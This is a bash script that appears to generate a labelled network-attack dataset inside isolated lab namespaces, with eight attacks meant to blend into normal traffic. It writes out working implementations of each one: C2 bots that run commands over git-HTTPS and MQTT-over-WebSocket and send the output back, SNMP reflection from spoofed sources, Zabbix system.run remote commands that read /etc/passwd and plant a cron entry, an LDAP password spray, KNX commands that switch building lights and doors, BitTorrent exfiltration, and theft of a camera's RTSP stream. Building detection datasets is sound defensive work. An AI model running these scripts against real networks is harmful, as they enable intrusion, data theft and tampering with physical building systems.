#!/usr/bin/env bash
# A SIXTEENTH fresh attack set ("f16-*"): attacks that BLEND IN — common ports (tcp/443 twice, a LAN directory's
# tcp/389, udp/161), protocols IoT and building / industrial devices already speak (MQTT, KNXnet/IP, RTSP, SNMP, a
# monitoring agent), low rates, few bytes — and families no earlier set used (a C2 in a git repository, a building's
# KNX bus driven from the LAN, BitTorrent as an exfiltration channel, a monitoring agent's remote commands).
# Made with real tools between network namespaces (no helper program: every far end is a packaged server or tool).
#   f16-git-https-c2         a dead drop in a git repository over HTTPS (git's smart HTTP; nginx + fcgiwrap +
#                            git-http-backend): the bot fetches every 12-22 s, runs the task files the operator
#                            commits, and pushes their output back as commits
#   f16-mqtt-wss-c2          MQTT inside WebSockets inside TLS on tcp/443 (what cloud IoT SDKs use behind firewalls):
#                            the bot holds a subscription for commands (paho_c_sub) and publishes each command's
#                            output with paho_c_pub, a one-shot connection each; mosquitto behind websocketd
#   f16-snmp-bulk-reflector  the device's snmpd (community "public") abused as a reflector: GetBulk requests
#                            (max-repetitions 40) spoofed from 6 internet addresses, ~4 a second in all, each answered
#                            with ~17x the bytes
#   f16-zabbix-agent-rce-in  the device's exposed Zabbix agent (tcp/10050, Server=0.0.0.0/0, system.run allowed) driven
#                            from the internet with zabbix_get: inventory keys, remote commands, a file read out
#   f16-ldap-spray-lan       a slow password spray of the LAN's directory (slapd, simple binds with ldapwhoami): 2
#                            passwords over 12 user names, one bind every 3-5 s, then a search as the user it broke
#   f16-knx-tunnel-write-lan a building's KNX bus driven from the device: KNXnet/IP discovery (nmap's
#                            knx-gateway-discover / -info), then a tunnelling connection (knxd's ipt driver) to the
#                            neighbour's IP interface (knxd): the bus monitored, group reads, lights / blinds /
#                            heating / door written (knxtool)
#   f16-bittorrent-exfil     exfiltration over BitTorrent: the device makes a private torrent of its loot (mktorrent),
#                            announces it to an internet tracker (opentracker, HTTP on tcp/6969) and seeds it, throttled to 24 kB/s,
#                            to the operator's client (aria2c at both ends)
#   f16-rtsp-stream-theft-lan a neighbour camera's video stolen over RTSP: DESCRIBE probes of 4 common stream paths
#                            (ffprobe), then the stream pulled for 80 s over RTP/UDP (ffmpeg; rtsp-server-perl fed
#                            by ffmpeg on the camera)
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f16-*, veths f16p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.106.x; the reflector's 6 "spoofed" sources 10.128.107.x, where the requests are made from and the answers
# end, as the real victims would get them); every other 10.128/9 address is on no host. Each id's servers are started
# before its capture and stopped after. Every tool runs under `timeout`, every loop is bounded; namespaces are removed
# on exit. The device is always the lab's attacker namespace (role attacker).
#
# Tools (Debian): git nginx fcgiwrap mosquitto mosquitto-clients paho.mqtt.c-examples websocketd socat snmpd snmp
#   zabbix-agent zabbix-proxy-sqlite3 (zabbix_get) slapd ldap-utils knxd knxd-tools nmap mktorrent aria2 opentracker
#   rtsp-server-perl ffmpeg iproute2 tcpdump wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh16/gen-fresh16.sh [--out DIR (default /work/behavior-bench-fresh16)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh16
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f16 GEN=gen-fresh16
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .106.2 the git host, .106.3 the MQTT-over-WebSocket broker, .106.4 the Zabbix operator, .106.5 the BitTorrent
# tracker, .106.6 the operator's BitTorrent client; the reflector's sources 10.128.107.11-16 (added with their id).
internet_hosts 10.128.106.2 10.128.106.3 10.128.106.4 10.128.106.5 10.128.106.6
lab_tls_cert "cloud.example"
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 90000 /dev/urandom > "$W/loot/wifi.tar.gz"
head -c 40000 /dev/urandom > "$W/loot/config.bin"
head -c 1200000 /dev/urandom > "$W/loot/rec-0412.bin"

NGINX_SERVER_NAME=cloud.example  # nginx_conf (fresh-lab.sh)

# ---------- 1. a dead drop in a git repository over HTTPS: tasks as commits, output pushed back ----------
if want f16-git-https-c2; then
  G="$W/git"; rm -rf "$G"; mkdir -p "$G/srv" "$G/op" "$G/dev/home" "$G/ophome"
  HOME="$G/ophome" git init -q --bare -b main "$G/srv/fw-cache.git"
  git -C "$G/srv/fw-cache.git" config http.receivepack true
  # the operator's working copy, on the git host (a local path: none of its traffic is on the device's link)
  HOME="$G/ophome" git -c user.name=ci -c user.email=ci@cloud.example clone -q "$G/srv/fw-cache.git" "$G/op/w" 2>/dev/null
  ( cd "$G/op/w" && mkdir -p tasks out && printf 'firmware cache\n' > README.md && touch tasks/.keep out/.keep &&
    git add -A && HOME="$G/ophome" git -c user.name=ci -c user.email=ci@cloud.example commit -q -m init &&
    HOME="$G/ophome" git push -q origin main )
  nginx_conf git "    listen 10.128.106.2:443 ssl;" <<EOF
    location ~ ^/git(/.*)\$ {
      include /etc/nginx/fastcgi_params;
      fastcgi_pass unix:$G/fcgi.sock;
      fastcgi_param SCRIPT_FILENAME /usr/lib/git-core/git-http-backend;
      fastcgi_param GIT_PROJECT_ROOT $G/srv;
      fastcgi_param GIT_HTTP_EXPORT_ALL "";
      fastcgi_param PATH_INFO \$1;
      fastcgi_param REMOTE_USER deploy;
      fastcgi_param HOME $G/ophome;
    }
EOF
  srv vic 240 fcgiwrap -c 2 -s "unix:$G/fcgi.sock"
  FCGI_PID=$BG
  srv vic 240 nginx -e "$W/nginx-git/error.log" -c "$W/nginx-git/nginx.conf" -g 'daemon off;'
  GN_PID=$BG
  wait_tcp vic 10.128.106.2 443
  # the operator commits 3 tasks, 22-35 s apart, into the repository (from the git host itself)
  cat > "$W/git-op.sh" <<'EOS'
G="$W/git"; cd "$G/op/w"
export HOME="$G/ophome"
n=0
for t in "id; uname -a; cat /proc/cpuinfo | head -8" "ip -4 addr; ip route; cat /proc/net/arp" \
         "base64 -w0 $W/loot/wifi.tar.gz"; do
  sleep $((22 + RANDOM % 14))
  n=$((n + 1))
  git pull -q --rebase origin main
  printf '%s\n' "$t" > "tasks/t$n.sh"
  git add -A && git -c user.name=ci -c user.email=ci@cloud.example commit -q -m "update cache $n" && git push -q origin main
done
EOS
  ip netns exec "$LAB-vic" timeout 170 bash "$W/git-op.sh" >>"$W/bg-git-op.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/git-bot.sh" <<'EOS'
# the bot: clone once, then fetch every 12-22 s; each new task file is run and its gzipped, base64 output committed
# and pushed (git over HTTPS, git's own user agent; the host's certificate not checked, as implants do)
G="$W/git"; export HOME="$G/dev/home" GIT_SSL_NO_VERIFY=1 GIT_TERMINAL_PROMPT=0
cd "$G/dev"
timeout 20 git clone -q https://10.128.106.2/git/fw-cache.git w || exit 1
cd w
t0=$SECONDS
for i in $(seq 1 10); do
  s=$((12 + RANDOM % 11))
  [ $((SECONDS - t0 + s)) -lt 130 ] || break
  sleep "$s"
  timeout 20 git pull -q --ff-only origin main || continue
  for f in tasks/t*.sh; do
    [ -f "$f" ] || continue
    o="out/$(basename "$f" .sh).b64"
    [ -f "$o" ] && continue
    timeout 10 sh "$f" 2>&1 | head -c 200000 | gzip | base64 > "$o"
    git add "$o" && git -c user.name=cam-7f3a -c user.email=cam-7f3a@local commit -q -m "cache $(date +%s)" &&
      timeout 20 git push -q origin main
  done
done
EOS
  CAP_VIC_IP=10.128.106.2 cap f16-git-https-c2 c2 git-smart-http-fetch-push+nginx-git-http-backend attacker public false \
    180 bash "$W/git-bot.sh"
  stopbg "$OP_PID"; stopbg "$GN_PID"; stopbg "$FCGI_PID"
  echo "git: $(git -C "$G/srv/fw-cache.git" rev-list --count main) commits, $(git -C "$G/srv/fw-cache.git" ls-tree --name-only main out/ | grep -c b64) outputs" >&2
fi

# ---------- 2. MQTT over WebSockets over TLS on 443: commands subscribed, output published ----------
if want f16-mqtt-wss-c2; then
  M="$W/mqtt"; rm -rf "$M"; mkdir -p "$M"
  printf 'user root\npersistence false\nlistener 1883 127.0.0.1\nallow_anonymous true\nlog_dest stderr\n' > "$M/mosquitto.conf"
  srv vic 200 mosquitto -c "$M/mosquitto.conf"
  MB_PID=$BG
  wait_tcp vic 127.0.0.1 1883
  # the broker's WebSocket endpoint: websocketd on 443 with TLS, each connection a socat to the broker
  srv vic 200 websocketd --address 10.128.106.3 --port 443 --ssl --sslcert "$W/tls.crt" --sslkey "$W/tls.key" \
    --binary socat STDIO TCP:127.0.0.1:1883
  WS_PID=$BG
  wait_tcp vic 10.128.106.3 443
  # the operator, at the broker: records the bot's output, sends 4 commands 15-26 s apart
  cat > "$W/mqtt-op.sh" <<'EOS'
timeout 160 mosquitto_sub -h 127.0.0.1 -t 'dt/cam-7f3a/#' -v > "$W/mqtt/op-seen" 2>&1 &
sleep 12
for c in "id; uname -a" "cat /proc/net/arp; ip -4 route" "ls -la /etc; cat /etc/passwd" "base64 -w0 $W/loot/config.bin"; do
  sleep $((15 + RANDOM % 12))
  mosquitto_pub -h 127.0.0.1 -q 1 -t dt/cam-7f3a/cmd -m "$c"
done
sleep 20
EOS
  ip netns exec "$LAB-vic" timeout 170 bash "$W/mqtt-op.sh" >>"$W/bg-mqtt-op.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/mqtt-bot.sh" <<'EOS'
# the bot: a held subscription (keepalive 60 s) for its commands; each command's output, gzipped and base64, is
# published with a one-shot connection, and a small status message every 45 s the same way
C=(-c wss://10.128.106.3:443/mqtt --cafile "$W/tls.crt" --insecure --quiet)
( for i in 1 2; do sleep 45
    timeout 10 paho_c_pub "${C[@]}" -i cam-7f3a-s -q 1 -t dt/cam-7f3a/status \
      -m "{\"up\":$SECONDS,\"rssi\":-$((50 + RANDOM % 20)),\"fw\":\"4.2.17\"}" || true
  done ) &
S=$!
timeout 125 paho_c_sub "${C[@]}" -i cam-7f3a -q 1 -k 60 -t dt/cam-7f3a/cmd | while read -r c; do
  timeout 10 sh -c "$c" 2>&1 | head -c 60000 | gzip | base64 -w0 > "$W/mqtt/out"
  timeout 10 paho_c_pub "${C[@]}" -i cam-7f3a-o -q 1 -t dt/cam-7f3a/out -f "$W/mqtt/out" || true
done
wait $S 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.106.3 cap f16-mqtt-wss-c2 c2 paho-mqtt-over-wss-443+websocketd+mosquitto attacker public false 165 \
    bash "$W/mqtt-bot.sh"
  stopbg "$OP_PID"; stopbg "$WS_PID"; stopbg "$MB_PID"
  echo "mqtt-wss: the operator saw $(grep -c '^dt/cam-7f3a/out' "$M/op-seen" 2>/dev/null) outputs, $(grep -c '^dt/cam-7f3a/status' "$M/op-seen" 2>/dev/null) status messages" >&2
fi

# ---------- 3. SNMP GetBulk reflection: the device's snmpd answers requests "from" 6 internet addresses ----------
if want f16-snmp-bulk-reflector; then
  S="$W/snmpd"; rm -rf "$S"; mkdir -p "$S/persist"
  cat > "$S/snmpd.conf" <<EOF
agentAddress udp:$ATT_IP:161
rocommunity public default
sysName cam-7f3a
sysLocation lobby
sysContact support@vendor.example
sysDescr Linux cam-7f3a 4.9.37 #1 SMP PREEMPT Mon Jun 5 10:12:45 CST 2023 armv7l
EOF
  ip netns exec "$LAB-att" env SNMP_PERSISTENT_DIR="$S/persist" timeout 130 snmpd -f -Lo -C -c "$S/snmpd.conf" \
    -p "$S/snmpd.pid" >>"$W/bg-att.log" 2>&1 &
  SN_PID=$!; PIDS+=("$SN_PID")
  sleep 2
  for t in 11 12 13 14 15 16; do ns vic ip addr add "10.128.107.$t/32" dev lo; done
  cat > "$W/snmp-reflect.sh" <<'EOS'
# the reflection: 6 spoofed sources (made here from the victim's namespace, where those addresses live and the
# answers end), each sending a GetBulk of the MIB-2 tree with max-repetitions 40 every 1.5-2.5 s for ~75 s
P=()
for t in 11 12 13 14 15 16; do
  ( end=$((SECONDS + 75)); n=0
    while [ $SECONDS -lt $end ] && [ $n -lt 50 ]; do
      n=$((n + 1))
      ip netns exec "$LAB-vic" timeout 3 snmpbulkget -v2c -c public -Cn0 -Cr40 -t 1 -r 0 \
        --clientaddr=10.128.107.$t 10.66.0.10 1.3.6.1.2.1 >/dev/null 2>&1 || true
      sleep "1.$((5 + RANDOM % 10))"
    done ) &
  P+=($!)
  sleep 0.4
done
for p in "${P[@]}"; do wait "$p" || true; done
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.107.11 cap f16-snmp-bulk-reflector dos snmpd-getbulk-reflector+snmpbulkget-spoofed \
    attacker wan false 95 bash "$W/snmp-reflect.sh"
  stopbg "$SN_PID"
  for t in 11 12 13 14 15 16; do ns vic ip addr del "10.128.107.$t/32" dev lo || true; done
fi

# ---------- 4. the device's exposed Zabbix agent driven from the internet (zabbix_get, system.run) ----------
if want f16-zabbix-agent-rce-in; then
  Z="$W/zabbix"; rm -rf "$Z"; mkdir -p "$Z"
  cat > "$Z/zabbix_agentd.conf" <<EOF
PidFile=$Z/agentd.pid
LogType=file
LogFile=$Z/agentd.log
Server=0.0.0.0/0
ListenIP=$ATT_IP
ListenPort=10050
StartAgents=2
Hostname=cam-7f3a
AllowKey=system.run[*]
AllowRoot=1
Timeout=10
EOF
  ip netns exec "$LAB-att" timeout 150 zabbix_agentd -f -c "$Z/zabbix_agentd.conf" >>"$W/bg-att.log" 2>&1 &
  ZA_PID=$!; PIDS+=("$ZA_PID")
  sleep 2
  cat > "$W/zabbix-op.sh" <<'EOS'
# the operator, from the internet (source 10.128.106.4): one request per connection, 4-11 s apart
i=0
for k in agent.ping agent.version system.uname system.hostname "system.run[id]" "vfs.file.contents[/etc/passwd]" \
         "system.run[cat /proc/net/arp; ip -4 route]" net.if.discovery "system.run[ls -la /etc | head -60]" \
         "system.run[base64 -w0 $W/loot/config.bin]" "system.run[ps -o pid,user,comm | head -40]" \
         "system.run[echo '*/10 * * * * /tmp/.x/upd' > $W/zabbix/cron.add; echo ok]" agent.ping; do
  i=$((i + 1))
  ip netns exec "$LAB-vic" timeout 15 zabbix_get -s 10.66.0.10 -p 10050 -I 10.128.106.4 -k "$k" \
    > "$W/zabbix/get-$i.out" 2>&1 || true
  sleep $((4 + RANDOM % 8))
done
EOS
  CAP_VIC_IP=10.128.106.4 cap f16-zabbix-agent-rce-in c2 zabbix_get-inbound+zabbix-agentd-system.run attacker public false \
    130 bash "$W/zabbix-op.sh"
  stopbg "$ZA_PID"
  echo "zabbix: $(cat "$Z"/get-*.out | grep -vc ZBX_NOTSUPPORTED) answered lines; config.bin read out: $(wc -c < "$Z/get-10.out") bytes" >&2
fi

# ---------- 5. a slow password spray of the LAN's directory (slapd, simple binds) ----------
if want f16-ldap-spray-lan; then
  L="$W/ldap"; rm -rf "$L"; mkdir -p "$L/db"
  cat > "$L/slapd.conf" <<EOF
include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/inetorgperson.schema
include /etc/ldap/schema/nis.schema
modulepath /usr/lib/ldap
moduleload back_mdb
pidfile $L/slapd.pid
database mdb
maxsize 50000000
suffix "dc=corp,dc=example"
rootdn "cn=admin,dc=corp,dc=example"
rootpw notsecret
directory $L/db
access to attrs=userPassword by anonymous auth by self read by * none
access to * by users read by * none
EOF
  $PY - > "$L/corp.ldif" <<'EOS'
import random
random.seed(16)
print("dn: dc=corp,dc=example\nobjectClass: dcObject\nobjectClass: organization\no: Corp\ndc: corp\n")
for ou in ("People", "Groups"):
    print(f"dn: ou={ou},dc=corp,dc=example\nobjectClass: organizationalUnit\nou: {ou}\n")
users = ["a.becker", "m.schulz", "j.hoffmann", "s.wagner", "t.koch", "k.richter", "l.klein", "p.wolf", "c.neumann",
         "d.schwarz", "f.zimmer", "h.braun", "svc.backup", "svc.scada", "it.admin", "r.krueger", "n.hartmann"]
for i, u in enumerate(users):
    pw = "Winter2026!" if u in ("t.koch", "svc.scada") else f"x{random.randint(0, 10**9)}!"
    print(f"dn: uid={u},ou=People,dc=corp,dc=example\nobjectClass: inetOrgPerson\nobjectClass: posixAccount\n"
          f"uid: {u}\ncn: {u}\nsn: {u.split('.')[1]}\nmail: {u}@corp.example\nuidNumber: {3000+i}\ngidNumber: 3000\n"
          f"homeDirectory: /home/{u}\nuserPassword: {pw}\n")
for g, m in (("Domain Admins", ["it.admin"]), ("SCADA Operators", ["svc.scada", "t.koch", "k.richter"]),
             ("Backup Operators", ["svc.backup"])):
    print(f"dn: cn={g},ou=Groups,dc=corp,dc=example\nobjectClass: posixGroup\ncn: {g}\ngidNumber: {4000+len(g)}\n"
          + "".join(f"memberUid: {u}\n" for u in m))
EOS
  slapadd -q -f "$L/slapd.conf" -l "$L/corp.ldif" >"$L/slapadd.log" 2>&1
  srv d34 180 slapd -d 0 -h "ldap://$NET.34/" -f "$L/slapd.conf"
  SL_PID=$BG
  wait_tcp d34 "$NET.34" 389
  cat > "$W/ldap-spray.sh" <<'EOS'
# the spray: 12 user names (a guessed list, some not in the directory), one password at a time over all of them, a
# bind every 3-5 s (a connection each), 15 s after each round; then, with the account it broke, one search
U="a.becker m.schulz j.hoffmann s.wagner t.koch k.richter p.wolf admin svc.backup svc.scada operator it.admin"
hit=""
for pw in 'Welcome1!' 'Winter2026!'; do
  for u in $U; do
    if timeout 8 ldapwhoami -x -o nettimeout=5 -H ldap://10.66.0.34 -D "uid=$u,ou=People,dc=corp,dc=example" -w "$pw" \
         >> "$W/ldap/spray.out" 2>&1; then
      hit="${hit:-$u:$pw}"; echo "HIT $u" >> "$W/ldap/spray.out"
    fi
    sleep $((3 + RANDOM % 3))
  done
  sleep 15
done
if [ -n "$hit" ]; then
  timeout 10 ldapsearch -x -LLL -o nettimeout=5 -H ldap://10.66.0.34 -D "uid=${hit%%:*},ou=People,dc=corp,dc=example" \
    -w "${hit#*:}" -b dc=corp,dc=example '(|(objectClass=posixGroup)(uid=svc.*))' cn memberUid uid >> "$W/ldap/spray.out" 2>&1
fi
EOS
  CAP_VIC_IP=$NET.34 CAP_VIC_MAC=02:66:00:00:00:34 cap f16-ldap-spray-lan credential ldapwhoami-spray+slapd attacker lan \
    false 165 bash "$W/ldap-spray.sh"
  stopbg "$SL_PID"
  echo "ldap spray: $(grep -c '^HIT' "$L/spray.out") hits, $(grep -c 'Invalid credentials' "$L/spray.out") refused" >&2
fi

# ---------- 6. a building's KNX bus driven from the device over KNXnet/IP tunnelling ----------
if want f16-knx-tunnel-write-lan; then
  K="$W/knx"; rm -rf "$K"; mkdir -p "$K"
  # multicast (discovery) goes out of eth0 in both namespaces
  ns d32 ip route add 224.0.0.0/4 dev eth0
  ns att ip route add 224.0.0.0/4 dev eth0
  # the building's KNX IP interface on .32: discovery and tunnelling (no routing), the bus behind it a dummy
  srv d32 170 knxd -e 1.1.250 -E 1.1.251:4 -n Gira-IP-Schnittstelle -D -T -S -u "$K/srv.sock" -b dummy:
  KS_PID=$BG
  sleep 2
  # the bus: a room thermostat, a window contact and a motion sensor report every 4-9 s (through the interface's
  # local socket; a tunnel client receives them as the bus's telegrams)
  cat > "$K/bus.sh" <<'EOS'
end=$((SECONDS + 160))
while [ $SECONDS -lt $end ]; do
  knxtool groupwrite "local:$W/knx/srv.sock" 3/1/1 0c $(printf '%02x' $((0x10 + RANDOM % 40))) >/dev/null 2>&1
  knxtool groupswrite "local:$W/knx/srv.sock" 5/1/$((1 + RANDOM % 3)) $((RANDOM % 2)) >/dev/null 2>&1
  sleep $((4 + RANDOM % 6))
done
EOS
  srv d32 165 bash "$K/bus.sh"
  KB_PID=$BG
  cat > "$W/knx.sh" <<'EOS'
# the device: discovery (a SEARCH to 224.0.23.12:3671), a DESCRIPTION of the interface, then its own knxd tunnels
# to it; 35 s of the bus monitored, group reads of the lights, then writes 5-9 s apart, and the tunnel closed
K="$W/knx"
timeout 20 nmap -e eth0 --script knx-gateway-discover --script-args timeout=4s > "$K/discover.out" 2>&1 || true
sleep 3
timeout 30 nmap -n -Pn -sU -p 3671 --script knx-gateway-info 10.66.0.32 > "$K/info.out" 2>&1 || true
sleep 4
timeout 120 knxd -e 1.1.240 -E 1.1.241:2 -u "$K/dev.sock" -b ipt:10.66.0.32 > "$K/dev-knxd.log" 2>&1 &
D=$!
sleep 3
timeout 35 knxtool vbusmonitor1 "local:$K/dev.sock" > "$K/monitor.out" 2>&1 || true
for ga in 1/0/1 1/0/2 1/0/3 1/0/4; do timeout 5 knxtool groupread "local:$K/dev.sock" "$ga" >/dev/null 2>&1 || true; sleep 1; done
for w in "groupswrite 1/0/1 0" "groupswrite 1/0/2 0" "groupwrite 2/1/1 ff" "groupswrite 1/0/3 0" \
         "groupwrite 3/2/1 0c 00" "groupswrite 6/0/1 1" "groupwrite 2/1/2 ff"; do
  sleep $((5 + RANDOM % 5))
  # shellcheck disable=SC2086
  timeout 5 knxtool ${w%% *} "local:$K/dev.sock" ${w#* } >/dev/null 2>&1 || true
done
sleep 5
kill $D 2>/dev/null; wait $D 2>/dev/null || true
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f16-knx-tunnel-write-lan lateral nmap-knx-discover+knxd-ipt-tunnel+knxtool \
    attacker lan false 150 bash "$W/knx.sh"
  stopbg "$KB_PID"; stopbg "$KS_PID"
  ns d32 ip route del 224.0.0.0/4 dev eth0 || true
  ns att ip route del 224.0.0.0/4 dev eth0 || true
  echo "knx: discover $(grep -c 'KNX' "$K/discover.out" 2>/dev/null) lines, monitor $(wc -l < "$K/monitor.out") telegrams" >&2
fi

# ---------- 7. exfiltration over BitTorrent: a private torrent seeded to the operator's client ----------
if want f16-bittorrent-exfil; then
  B="$W/bt"; rm -rf "$B"; mkdir -p "$B/seed" "$B/got" "$B/trk"
  cp "$W/loot/rec-0412.bin" "$B/seed/"
  mktorrent -p -l 16 -a http://10.128.106.5:6969/announce -o "$B/loot.torrent" "$B/seed/rec-0412.bin" >/dev/null
  aria2c -S "$B/loot.torrent" | awk '/Info Hash/{print $3}' > "$B/trk/whitelist.txt"
  # the tracker (opentracker: Debian's build accepts only whitelisted torrents, will not run as root, and reads its
  # whitelist inside its chroot)
  printf 'listen.tcp_udp 10.128.106.5:6969\naccess.whitelist /whitelist.txt\ntracker.rootdir %s\ntracker.user nobody\n' \
    "$B/trk" > "$B/opentracker.conf"
  srv vic 170 opentracker -f "$B/opentracker.conf"
  TK_PID=$BG
  wait_tcp vic 10.128.106.5 6969
  sleep 2
  A=(--enable-dht=false --enable-dht6=false --bt-enable-lpd=false --enable-peer-exchange=false --disable-ipv6=true
     --bt-tracker-connect-timeout=10 --bt-tracker-interval=30 --summary-interval=0 --console-log-level=warn)
  # the operator's client on another internet address (it got the .torrent over the C2, not on this link)
  ip netns exec "$LAB-vic" timeout 160 aria2c "${A[@]}" --interface=10.128.106.6 --listen-port=51413 --seed-time=0 \
    -d "$B/got" "$B/loot.torrent" >>"$W/bg-leech.log" 2>&1 &
  LC_PID=$!; PIDS+=("$LC_PID")
  cat > "$W/bt.sh" <<'EOS'
# the device: seeds the torrent it made, throttled to 24 kB/s, for at most 100 s
B="$W/bt"
timeout 110 aria2c --enable-dht=false --enable-dht6=false --bt-enable-lpd=false --enable-peer-exchange=false \
  --disable-ipv6=true --bt-tracker-connect-timeout=10 --bt-tracker-interval=30 --summary-interval=0 \
  --console-log-level=warn --listen-port=6881 --max-upload-limit=24K --seed-ratio=0.0 --seed-time=1.6 \
  --check-integrity=true -d "$B/seed" "$B/loot.torrent" > "$B/seed.log" 2>&1 || true
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.106.5 cap f16-bittorrent-exfil exfil mktorrent+aria2c-seed-throttled+opentracker-http \
    attacker wan false 125 bash "$W/bt.sh"
  stopbg "$LC_PID"; stopbg "$TK_PID"
  echo "bittorrent: the operator got $(stat -c %s "$B/got/rec-0412.bin" 2>/dev/null || echo 0) of 1200000 bytes" >&2
fi

# ---------- 8. a neighbour camera's stream stolen over RTSP ----------
if want f16-rtsp-stream-theft-lan; then
  R="$W/rtsp"; rm -rf "$R"; mkdir -p "$R"
  # the camera on .33: an RTSP server fed by the camera's encoder (ffmpeg: a test scene, H.264 ~600 kbit/s, 15 fps)
  srv d33 170 rtsp-server-perl --clientport 554 --serverport 5545 --client_listen_address "$NET.33" \
    --source_listen_address 127.0.0.1 --loglevel 2
  RS_PID=$BG
  sleep 2
  srv d33 165 ffmpeg -nostdin -loglevel error -re -f lavfi -i "testsrc2=size=640x360:rate=15" -c:v libx264 \
    -preset ultrafast -tune zerolatency -b:v 600k -maxrate 600k -bufsize 300k -g 30 -pix_fmt yuv420p \
    -f rtsp "rtsp://127.0.0.1:5545/stream1"
  RF_PID=$BG
  sleep 4
  cat > "$W/rtsp.sh" <<'EOS'
# the device: DESCRIBE probes of common stream paths, then 80 s of the one that answers, over RTP/UDP
R="$W/rtsp"
for p in live.sdp h264 cam/realmonitor stream1; do
  if timeout 8 ffprobe -v error -rtsp_transport udp -show_entries stream=codec_name,width,height \
       "rtsp://10.66.0.33:554/$p" >> "$R/probe.out" 2>&1; then echo "OK $p" >> "$R/probe.out"; fi
  sleep 2
done
timeout 95 ffmpeg -nostdin -loglevel error -rtsp_transport udp -i rtsp://10.66.0.33:554/stream1 -t 80 -c copy \
  -y "$R/stolen.mkv" > "$R/pull.log" 2>&1 || true
EOS
  CAP_VIC_IP=$NET.33 CAP_VIC_MAC=02:66:00:00:00:33 cap f16-rtsp-stream-theft-lan lateral ffprobe+ffmpeg-rtsp-pull-udp+rtsp-server-perl \
    attacker lan false 130 bash "$W/rtsp.sh"
  stopbg "$RF_PID"; stopbg "$RS_PID"
  echo "rtsp: probes ok: $(grep -c '^OK' "$R/probe.out" 2>/dev/null); stolen $(stat -c %s "$R/stolen.mkv" 2>/dev/null || echo 0) bytes" >&2
fi

lab_index
